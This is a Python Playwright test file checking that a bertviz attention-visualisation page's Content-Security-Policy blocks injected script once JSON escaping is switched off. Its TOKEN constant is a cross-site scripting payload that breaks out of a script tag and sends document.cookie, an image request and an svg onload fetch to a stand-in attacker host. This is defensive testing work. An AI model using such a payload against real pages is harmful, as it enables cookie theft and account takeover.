"""The bertviz page's Content-Security-Policy, in a real Chromium: with the JSON escaping
switched off (in this test only), a token that breaks out of the script and asks for an outside
URL gets nothing out, and the browser reports the policy violation.

Three pages are built from the same hostile trace:
- the real page: escaping on, CSP on (draws, clean console: the policy does not get in the way);
- escaping off, CSP removed: the control, proving the token really does send a request;
- escaping off, CSP on: no request leaves, violations are reported. Shown both as the page
  itself and the way st.iframe shows it (srcdoc, sandbox with allow-same-origin allow-scripts).
"""

from __future__ import annotations

import dataclasses
import html as html_lib
import re

import pytest

import viz.bertviz_embed as be
from tests.unit.test_bertviz_embed import synthetic_trace

EVIL = "attacker.invalid"
# Closes bertviz's <script> when `<` and `>` are not escaped, then tries three ways out:
# a script that fetches, an image, and an inline event handler.
TOKEN = (f"</script><script>fetch('https://{EVIL}/steal?c='+document.cookie)</script>"
         f"<img src=https://{EVIL}/pixel.png><svg onload=fetch('https://{EVIL}/svg')>")
# What st.iframe (Streamlit 1.67, IFrameUtil) gives the frame.
SANDBOX = ("allow-forms allow-modals allow-popups allow-popups-to-escape-sandbox "
           "allow-same-origin allow-scripts allow-downloads")
URL = "http://localhost:9/page.html"  # answered by the test's route, never by a server
# Registered before any of the page's own scripts, in every frame.
LISTEN_JS = """window.__csp = [];
document.addEventListener('securitypolicyviolation',
  e => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI), true);"""


@pytest.fixture(scope="module")
def trace():
    base = synthetic_trace(3, 2)
    return dataclasses.replace(base, src_tokens=[["▁Winter", TOKEN, "</s>"]],
                               tgt_tokens=[["<2ko>", "▁겨울"]])


@pytest.fixture
def unescaped(monkeypatch):
    """The slip the CSP guards against: JSON written into the script without escaping."""
    monkeypatch.setattr(be, "_escape_json", lambda text: text)


@pytest.fixture
def watch(page, page_log):
    """Every request the page (or its frames) makes, and CSP console reports."""
    seen = {"requests": [], "failed": [], "responses": [], "csp_console": []}
    page.on("request", lambda r: seen["requests"].append(r.url))
    page.on("requestfailed", lambda r: seen["failed"].append((r.url, r.failure)))
    page.on("response", lambda r: seen["responses"].append(r.url))

    def on_console(msg):
        if "Content Security Policy" in msg.text:
            seen["csp_console"].append(msg.text)

    page.on("console", on_console)
    return seen


def show(page, html: str) -> None:
    """Serve `html` at a localhost URL (so the page has an origin, like the app) and open it."""
    page.add_init_script(LISTEN_JS)
    page.route(URL, lambda route: route.fulfill(body=html, content_type="text/html"))
    page.goto(URL, wait_until="load")


def violations(frame) -> list[str]:
    return frame.evaluate("() => window.__csp")


def outside(urls: list[str]) -> list[str]:
    return [u for u in urls if EVIL in u]


def nothing_left(seen: dict, page_log) -> None:
    """No outside request reached the network: Chromium may announce one (a request event)
    but it fails as blocked by CSP ("csp") before the harness's route ever sees it."""
    assert not page_log.blocked, page_log.blocked  # the route saw no outside request
    assert not outside(seen["responses"]), seen["responses"]
    failed = {u: why for u, why in seen["failed"]}
    for url in outside(seen["requests"]):
        assert failed.get(url) in ("csp", "net::ERR_BLOCKED_BY_CSP"), (url, failed.get(url))


def forget_expected_errors(page_log) -> None:
    """The reports this test expects are console errors; anything else still fails teardown."""
    page_log.console_errors[:] = [m for m in page_log.console_errors
                                  if "Content Security Policy" not in m
                                  and not m.startswith("uncaught:")]


def test_the_page_opens_with_the_policy(trace):
    page = be.bertviz_html(trace, 0, "head")
    head = page[: page.index("<style>")]
    assert re.match(r'<!DOCTYPE html>\n<html lang="en"><head><meta http-equiv='
                    r'"Content-Security-Policy" content="', page)
    policy = re.search(r'content="([^"]*)"', head).group(1)
    rules = dict((r.split(" ", 1) + [""])[:2] for r in policy.split("; "))
    assert rules["default-src"] == "'none'" and rules["connect-src"] == "'none'"
    assert rules["img-src"] == "data:" and rules["style-src"] == "'unsafe-inline'"
    assert "'unsafe-inline'" not in rules["script-src"]
    assert len(re.findall(r"'sha256-[A-Za-z0-9+/]+=*'", rules["script-src"])) == 4
    assert len(head) < 1024  # the charset meta stays in the first 1,024 bytes


def test_real_page_draws_under_the_policy(page, page_log, watch, trace):
    show(page, be.bertviz_html(trace, 0, "head"))
    page.wait_for_selector("#vis svg line", state="attached", timeout=10_000)
    assert TOKEN in page.locator("#vis svg text").all_text_contents()
    assert not watch["csp_console"] and not violations(page) and not outside(watch["requests"])
    page_log.assert_clean()


def test_control_without_the_policy_the_token_escapes(page, page_log, watch, trace, unescaped,
                                                      monkeypatch):
    """Proves the token is a real attack: with escaping and CSP both gone, requests go out
    (the harness aborts them and records them as blocked)."""
    monkeypatch.setattr(be, "csp_meta", lambda scripts: "")
    show(page, be.bertviz_html(trace, 0, "head"))
    page.wait_for_timeout(500)
    assert outside(page_log.blocked), (page_log.blocked, watch["requests"])
    page_log.blocked.clear()
    page_log.console_errors[:] = [m for m in page_log.console_errors  # the aborted requests
                                  if not m.startswith("Failed to load resource")]
    forget_expected_errors(page_log)


def test_policy_stops_the_injected_token(page, page_log, watch, trace, unescaped):
    bad = be.bertviz_html(trace, 0, "head")
    assert "</script><script>fetch(" in bad  # the escaping really is off
    show(page, bad)
    page.wait_for_timeout(500)
    nothing_left(watch, page_log)
    assert page.locator("img").count() >= 1  # the <img> was parsed (once per copy), not loaded
    reported = violations(page)
    assert any(r.startswith("script-src") for r in reported), reported  # the injected script
    assert f"img-src https://{EVIL}/pixel.png" in reported, reported
    assert watch["csp_console"], "Chromium logs each violation on the console too"
    forget_expected_errors(page_log)


def test_policy_holds_inside_the_streamlit_style_frame(page, page_log, watch, trace,
                                                       unescaped):
    """As st.iframe shows it: srcdoc with allow-same-origin allow-scripts."""
    bad = be.bertviz_html(trace, 0, "model")
    parent = (f'<!DOCTYPE html><html><body><iframe id="f" sandbox="{SANDBOX}" '
              f'srcdoc="{html_lib.escape(bad, quote=True)}" width="800" height="600">'
              "</iframe></body></html>")
    show(page, parent)
    page.frame_locator("#f").locator("#vis").wait_for(state="attached", timeout=10_000)
    page.wait_for_timeout(500)
    inner = page.frames[1]
    nothing_left(watch, page_log)
    reported = violations(inner)
    assert any(r.startswith("script-src") for r in reported), reported
    assert f"img-src https://{EVIL}/pixel.png" in reported, reported
    forget_expected_errors(page_log)
